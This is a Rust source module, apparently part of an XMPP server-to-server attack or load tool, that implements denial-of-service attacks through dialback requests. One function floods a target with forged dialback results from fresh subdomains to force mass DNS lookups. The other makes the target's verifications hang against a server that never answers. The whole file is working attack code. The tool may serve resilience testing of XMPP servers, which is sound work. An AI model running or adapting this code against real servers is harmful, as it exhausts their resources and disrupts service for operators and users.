//! Attacks by dialback requests, which make the target look up domains that the attacker names, and connect to them
//! (XEP-0220 §3).

use std::fmt::Write as _;
use std::io::BufRead as _;
use std::time::Duration;

use s2s_peer::error::Result;

use super::aim::{Aim, Opened};
use super::connections::repeat;
use super::tally::Tally;

/// Number of requests on one stream.
pub(crate) const REQUESTS: usize = 64;
/// Maximum time to wait for answers before the next stream.
const ANSWER_TIMEOUT: Duration = Duration::from_secs(2);

/// Sends requests from new domains below `from`: each causes a lookup.
pub(super) fn lookups(aim: &Aim, tally: &Tally) -> Result<()> {
    let tls = aim.tls()?;
    repeat(aim, tally, |thread, time| {
        let opened = aim.open(&aim.from, &tls, tally)?;
        request(aim, tally, opened, |number| format!("l{thread}-{time}-{number}"))
    });
    Ok(())
}

/// Sends requests from domains below `from` whose server accepts connections and never answers: each causes a
/// verification that hangs.
pub(super) fn hanging(aim: &Aim, tally: &Tally) -> Result<()> {
    let tls = aim.tls()?;
    repeat(aim, tally, |_, _| {
        let opened = aim.open(&aim.from, &tls, tally)?;
        request(aim, tally, opened, |number| format!("hang{number}"))
    });
    Ok(())
}

fn request(
    aim: &Aim,
    tally: &Tally,
    mut opened: Opened,
    name: impl Fn(usize) -> String,
) -> Result<()> {
    let (from, to) = (&aim.from, &aim.domain);
    let mut requests = String::new();
    for number in 0..REQUESTS {
        // Writing to a string cannot fail.
        let _ =
            write!(requests, "<db:result from='{}.{from}' to='{to}'>00</db:result>", name(number));
    }
    opened.stream.send(&requests)?;
    tally.sent(requests.len());
    // The target may answer, or close the stream, or neither.
    let transport = opened.stream.transport();
    while !tally.is_over() && transport.is_readable_within(ANSWER_TIMEOUT).unwrap_or(false) {
        let Ok(bytes) = transport.fill_buf() else { break };
        let count = bytes.len();
        if count == 0 {
            tally.ended();
            break;
        }
        tally.received(count);
        transport.consume(count);
    }
    Ok(())
}
